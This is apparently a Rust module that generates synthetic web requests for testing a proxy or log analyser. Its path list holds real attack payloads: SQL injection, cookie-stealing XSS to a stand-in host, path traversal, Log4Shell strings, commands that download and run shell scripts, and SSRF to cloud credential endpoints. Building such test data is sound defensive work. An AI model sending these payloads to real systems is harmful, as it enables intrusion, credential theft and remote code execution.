//! Request targets of attacks and scanners, and destinations given as an address.
//!
//! The strings are examples for recognition only; each is complete in itself and targets nothing.
//! `{n}` stands for a number, `{h}` for eight hexadecimal digits, `{w}` for a word.

use super::line::{Address, Peer};
use super::names::WORDS;
use super::rng::Rng;
use super::text;

/// Paths, as sent to a web host.
pub(super) const PATHS: [&str; 64] = [
    "/products.php?id={n}%27%20OR%20%271%27=%271",
    "/item?id={n}%20UNION%20SELECT%20NULL,username,password%20FROM%20users--%20-",
    "/news.asp?article={n};WAITFOR%20DELAY%20%270:0:5%27--",
    "/api/v1/{w}?sort=id)%20AND%20SLEEP(5)--%20{h}",
    "/login.php?user=admin'--&pass={h}",
    "/catalog?cat={n}'+and+1=2+union+select+1,2,concat(0x7e,version(),0x7e)--+",
    "/view.php?id=-{n}+UNION+ALL+SELECT+table_name+FROM+information_schema.tables",
    "/search?q={w}%27%29%3B%20DROP%20TABLE%20orders%3B--",
    "/index.php?id=extractvalue(1,concat(0x5c,(select+database())))",
    "/report?from={n}%20and%20(select%20*%20from%20(select(sleep(10)))a)",
    "/search?q=<script>alert({n})</script>",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "/profile?name=%22%3E%3Cimg%20src=x%20onerror=alert({n})%3E",
    "/{w}?next=javascript:alert({n})",
    "/comment?text=%3Csvg/onload=fetch(%27//x{h}.example.net/%27%2bdocument.cookie)%3E",
    "/page?title=%3Ciframe%20src=%22javascript:alert(1)%22%3E",
    "/q?s='\"><body/onload=confirm({n})>",
    "/share?u=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "/download?file=../../../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc%2fshadow",
    "/{w}/%2e%2e/%2e%2e/%2e%2e/windows/win.ini",
    "/index.php?page=....//....//....//etc/passwd%00",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/view?template=..%255c..%255c..%255cboot.ini",
    "/assets/..;/..;/manager/html",
    "/image?path=file:///proc/self/environ",
    "/index.php?page=php://filter/convert.base64-encode/resource=config",
    "/include.php?f=http://203.0.113.66/{h}.txt%3F",
    "/?x=${jndi:ldap://203.0.113.66:1389/{h}}",
    "/api/login?user=$%7Bjndi:ldap://x{h}.example.net/a%7D",
    "/?q=$%7B$%7Blower:j%7Dndi:$%7Blower:l%7Ddap://198.51.100.66/{h}%7D",
    "/{w}?v=$%7Bjndi:dns://x{h}.example.net%7D",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/ping.cgi?ip=127.0.0.1%7Cid",
    "/tools/lookup?domain=example.com%26%26whoami",
    "/run?cmd=$(curl%20http://203.0.113.66/{h}.sh%7Csh)",
    "/cgi-bin/test.cgi?a=%60wget%20http://198.51.100.66/{h}%60",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.66/m.sh",
    "/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.66/arm7;chmod+777+arm7;./arm7",
    "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "/proxy?u=http%3A%2F%2F127.0.0.1%3A6379%2F",
    "/render?url=gopher://127.0.0.1:25/_HELO%20x{h}",
    "/webhook/test?target=http://metadata.google.internal/computeMetadata/v1/",
    "/template?name=%7B%7B7*{n}%7D%7D",
    "/hello?name=${7*{n}}",
    "/actuator/gateway/routes?x=%23%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D",
    "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern={h}",
    "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/wp-login.php?redirect_to=%2Fwp-admin%2F&reauth={n}",
    "/wp-content/plugins/{w}-manager/readme.txt",
    "/xmlrpc.php?rsd",
    "/.env",
    "/.git/config",
    "/.aws/credentials",
    "/backup/{w}.sql.gz",
    "/phpmyadmin/index.php?lang=en",
    "/server-status?auto",
    "/actuator/env",
    "/solr/admin/info/system?wt=json",
    "/HNAP1/",
    "/boaform/admin/formLogin?username=admin&psd=admin{n}",
    "/owa/auth/x{h}.aspx",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
];

/// Whole targets that no proxy should let through.
const FORBIDDEN: [&str; 6] = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://127.0.0.1:8500/v1/agent/self",
    "http://localhost:2375/containers/json",
    "http://[::ffff:169.254.169.254]/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1/instance/",
];

/// Appends `template` with its placeholders filled in.
pub(super) fn fill(out: &mut Vec<u8>, template: &str, rng: &mut Rng) {
    let mut rest = template;
    while let Some((before, after)) = rest.split_once('{') {
        out.extend_from_slice(before.as_bytes());
        rest = match after.as_bytes() {
            [b'n', b'}', ..] => {
                text::number(out, 1 + u64::from(rng.low_below(9_999)));
                &after[2..]
            }
            [b'h', b'}', ..] => {
                text::random_hex(out, rng, 8);
                &after[2..]
            }
            [b'w', b'}', ..] => {
                out.extend_from_slice(rng.pick(&WORDS).as_bytes());
                &after[2..]
            }
            _ => {
                out.push(b'{');
                after
            }
        };
    }
    out.extend_from_slice(rest.as_bytes());
}

/// Appends a target that is forbidden as a whole.
pub(super) fn forbidden(out: &mut Vec<u8>, rng: &mut Rng) {
    out.extend_from_slice(rng.pick(&FORBIDDEN).as_bytes());
}

/// A destination given as an address instead of a name.
pub(super) struct Literal {
    pub(super) connect: bool,
    /// [`Peer::None`] where the proxy refuses it.
    pub(super) peer: Peer,
}

/// Appends a destination given as an address, in usual and in odd spellings.
pub(super) fn literal(out: &mut Vec<u8>, rng: &mut Rng) -> Literal {
    let last = rng.between(1, 254) as u8;
    let direct = |net: [u8; 3]| Address::V4([net[0], net[1], net[2], last]);
    let v6 = Address::V6([0x40 + u16::from(last), 1, u16::from(last)]);
    let (connect, before, address, after) = match rng.below(100) {
        0..38 => (true, "", direct([198, 51, 100]), ":443"),
        38..62 => (false, "http://", direct([203, 0, 113]), ":8080/{w}/{w}?id={n}"),
        62..80 => (false, "http://", direct([192, 0, 2]), "/{w}/{h}.bin"),
        80..86 => (false, "http://[", v6, "]/{w}/{n}"),
        86..90 => (true, "[", v6, "]:443"),
        _ => {
            let odd = rng.pick(&[
                "http://0x7f.1/",
                "http://2130706433/",
                "http://0300.0.2.1/{w}",
                "http://0xcb007109/{w}.php",
                "http://127.1:{n}/",
                "http://192.0.2.07/",
            ]);
            fill(out, odd, rng);
            return Literal { connect: false, peer: Peer::None };
        }
    };
    out.extend_from_slice(before.as_bytes());
    address.append(out);
    fill(out, after, rng);
    Literal { connect, peer: Peer::Direct(address) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn templates_are_filled_and_stay_one_field() {
        let mut rng = Rng::new(1);
        for template in PATHS.iter().chain(&FORBIDDEN) {
            let mut out = Vec::new();
            fill(&mut out, template, &mut rng);
            let text = String::from_utf8(out).unwrap();
            assert!(!text.contains("{n}") && !text.contains("{h}") && !text.contains("{w}"));
            assert!(text.bytes().all(|b| b.is_ascii_graphic()), "{text}");
        }
        let mut out = Vec::new();
        fill(&mut out, "${jndi:x/{h}}", &mut rng);
        assert!(out.starts_with(b"${jndi:x/") && out.ends_with(b"}") && out.len() == 18);
    }
}
